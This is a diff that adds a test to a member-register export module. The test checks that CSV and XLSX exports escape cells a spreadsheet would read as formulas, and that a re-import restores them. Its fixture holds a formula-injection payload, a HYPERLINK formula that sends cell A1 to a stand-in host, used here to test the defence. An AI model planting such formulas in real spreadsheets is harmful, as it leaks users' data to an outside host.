@@ -5,6 +5,7 @@ import { ForbiddenError, type Actor } from "@/lib/auth/actor";
 import { importSpreadsheet } from "@/lib/members/import";
 import { registerTable } from "@/lib/members/export";
 import { toCsv, toXlsx } from "@/lib/spreadsheet";
+import { parseSpreadsheet } from "@/lib/members/import-file";
 import { getMember, listMembers } from "@/lib/members/service";
 import { actorFor, createCooperative, createMember } from "@/tests/factories/people";
 import { csvText, REGISTER_HEADERS, registerRows, xlsxBuffer } from "../fixtures/spreadsheets";
@@ -246,5 +247,37 @@ describe("exporting the register", () => {
     expect(uncategorised).toBe(2);
     expect(reimport.preview?.errors.map((e) => e.code)).toEqual(["categoryUnknown", "categoryUnknown"]);
     expect(reimport.preview?.toCreate).toBe(0);
+  });
+});
+
+describe("a cell a spreadsheet would take for a formula", () => {
+  it("is written after a quote in CSV and XLSX, and an import takes the quote off again", async () => {
+    const formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")';
+    const table = [
+      ["Nom", "E-mail", "Téléphone"],
+      [formula, "formule@exemple.org", "+33 6 12 34 56 78"],
+      ["@SUM(1+1)", "somme@exemple.org", "-1"],
+      ["Camille Martin", "camille@exemple.org", "01 23 45 67 89"],
+    ];
+    const csv = toCsv(table);
+    expect(csv).toContain(`"'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")"`);
+    expect(csv).toContain("'+33 6 12 34 56 78");
+    expect(csv).toContain("'@SUM(1+1)");
+    expect(csv).toContain(";'-1");
+    expect(csv).toContain("Camille Martin;camille@exemple.org;01 23 45 67 89");
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(new Uint8Array(await toXlsx(table, "Registre")).buffer as ArrayBuffer);
+    const row = workbook.worksheets[0]!.getRow(2);
+    expect(row.getCell(1).value).toBe(`'${formula}`);
+    expect(row.getCell(1).formula).toBeUndefined();
+
+    const parsed = await parseSpreadsheet(new File([csv], "export.csv"));
+    if (!parsed.ok) throw new Error(parsed.error);
+    expect(parsed.rows.map((r) => Object.values(r.cells))).toEqual([
+      [formula, "formule@exemple.org", "+33 6 12 34 56 78"],
+      ["@SUM(1+1)", "somme@exemple.org", "-1"],
+      ["Camille Martin", "camille@exemple.org", "01 23 45 67 89"],
+    ]);
   });
 });
